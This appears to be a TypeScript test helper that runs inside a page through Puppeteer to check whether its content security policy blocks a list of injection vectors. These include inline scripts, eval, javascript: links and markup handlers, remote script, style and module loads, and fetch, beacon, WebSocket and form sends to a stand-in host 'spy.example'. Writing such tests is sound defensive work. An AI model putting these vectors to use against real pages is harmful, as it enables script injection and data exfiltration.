import type { Frame, Page } from 'puppeteer-core';

/** Nobody lives there; whatever arrives is in the log of requests. */
export const SPY = 'https://spy.example';

/**
 * Tries in a page of ours what somebody would who had found a hole in it: to run text, to load and to send. Gives what became of each:
 * `refused`, or `done`.
 */
export async function inject(page: Page | Frame): Promise<Record<string, unknown>> {
  const became: Record<string, unknown> = await page.evaluate(async (spy) => {
    const ran = () => Reflect.get(window, 'ran') === true;
    const parent = document.body;
    const load = (element: HTMLElement, prepare: () => void) =>
      new Promise<boolean>((resolve) => {
        element.addEventListener('load', () => resolve(true));
        element.addEventListener('error', () => resolve(false));
        prepare();
        parent.append(element);
        setTimeout(resolve, 1_000, ran());
      });
    const make = <T extends keyof HTMLElementTagNameMap>(tag: T) => document.createElement(tag);
    // The driver's own call may use eval in Chromium; what a timer calls is the page's.
    const later = (deed: () => unknown) =>
      new Promise((resolve, reject) => {
        setTimeout(() => {
          try {
            resolve(deed());
          } catch (error) {
            reject(error);
          }
        }, 50);
      });
    const div = make('div');
    parent.append(div);
    const painted = () => getComputedStyle(div).zIndex === '77' || getComputedStyle(div).position === 'fixed';

    const deeds: Record<string, () => unknown> = {
      'an inline script': () => {
        const script = make('script');
        script.textContent = 'window.ran = true';
        parent.append(script);
        return ran();
      },
      'an inline script without TrustedTypes': () => {
        const script = make('script');
        script.append(document.createTextNode('window.ran = true'));
        parent.append(script);
        return ran();
      },
      'a script from elsewhere': () => {
        const script = make('script');
        return load(script, () => Object.assign(script, { src: `${spy}/a.js` }));
      },
      // biome-ignore lint/security/noGlobalEval: that it is refused is what is tried.
      eval: () => later(() => globalThis.eval('true')),
      'a function out of text': () => later(() => new Function('return true')()),
      'text on a timer': async () => {
        Reflect.apply(setTimeout, window, ['window.ran = true', 0]);
        await new Promise((resolve) => setTimeout(resolve, 100));
        return ran();
      },
      'a handler in markup': () => {
        div.setAttribute('onclick', 'window.ran = true');
        div.click();
        return ran();
      },
      'a link that is a script': async () => {
        const link = make('a');
        link.href = 'javascript:void(window.ran = true)';
        parent.append(link);
        link.click();
        await new Promise((resolve) => setTimeout(resolve, 100));
        return ran();
      },
      innerHTML: () => {
        div.innerHTML = '<b>x</b>';
        return div.childElementCount > 0;
      },
      'document.write': () => {
        document.write('<b>x</b>');
        return true;
      },
      'another policy for TrustedTypes': () => {
        window.trustedTypes?.createPolicy('default', { createHTML: (text) => text });
        return true;
      },
      'an inline style sheet': () => {
        const style = make('style');
        style.textContent = 'div { z-index: 77; position: fixed }';
        parent.append(style);
        const seen = painted();
        style.remove();
        return seen;
      },
      'a style in markup': () => {
        div.setAttribute('style', 'z-index: 77; position: fixed');
        return painted();
      },
      'a style sheet from elsewhere': () => {
        const link = make('link');
        return load(link, () => Object.assign(link, { rel: 'stylesheet', href: `${spy}/c.css` }));
      },
      'a picture from elsewhere': () => {
        const image = make('img');
        return load(image, () => Object.assign(image, { src: `${spy}/d.png` }));
      },
      'a film from elsewhere': () => {
        const video = make('video');
        return load(video, () => Object.assign(video, { src: `${spy}/e.webm` })).then(() => video.networkState === 2);
      },
      'a frame from elsewhere': async () => {
        const frame = make('iframe');
        await load(frame, () => Object.assign(frame, { src: `${spy}/f` }));
        return false;
      },
      'a worker out of text': async () => {
        const heard = new Promise((resolve) => {
          const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
          worker.addEventListener('message', () => resolve(true));
          worker.addEventListener('error', () => resolve(false));
          setTimeout(resolve, 1_000, false);
        });
        return heard;
      },
      fetch: () => fetch(`${spy}/g`, { mode: 'no-cors' }).then(() => true),
      'a beacon': () => {
        navigator.sendBeacon(`${spy}/h`, 'x');
        return false;
      },
      'a socket': () =>
        new Promise((resolve) => {
          const socket = new WebSocket(`${spy.replace('https', 'wss')}/i`);
          socket.addEventListener('open', () => resolve(true));
          socket.addEventListener('error', () => resolve(false));
        }),
      'a form sent elsewhere': async () => {
        const form = make('form');
        Object.assign(form, { action: `${spy}/j`, target: '_blank' });
        parent.append(form);
        form.submit();
        return false;
      },
      'another base': () => {
        const base = make('base');
        base.href = `${spy}/`;
        document.head.append(base);
        return document.baseURI.startsWith(spy);
      },
    };

    const became: Record<string, string> = {};
    for (const [name, deed] of Object.entries(deeds)) {
      Reflect.deleteProperty(window, 'ran');
      try {
        became[name] = (await deed()) === true ? 'done' : 'refused';
      } catch {
        became[name] = 'refused';
      }
    }
    return became;
  }, SPY);
  for (const module of [`${SPY}/b.js`, 'data:text/javascript,1'])
    became[`import of ${module}`] = await page.evaluate(`import('${module}').then(() => 'done', () => 'refused')`);
  return became;
}
